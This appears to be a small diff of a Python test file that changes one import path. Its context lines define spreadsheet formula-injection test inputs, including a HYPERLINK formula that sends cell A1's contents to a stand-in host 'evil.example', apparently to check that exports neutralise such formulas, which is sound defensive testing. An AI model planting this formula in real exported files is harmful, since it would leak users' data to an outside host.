@@ -11,7 +11,7 @@ from sqlalchemy import update
 
 import workflow
 from webapp.cli import main
-from workflow.store.pipeline import projects
+from workflow.store.tables import projects
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Åpne")'
 TYPED = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)"]
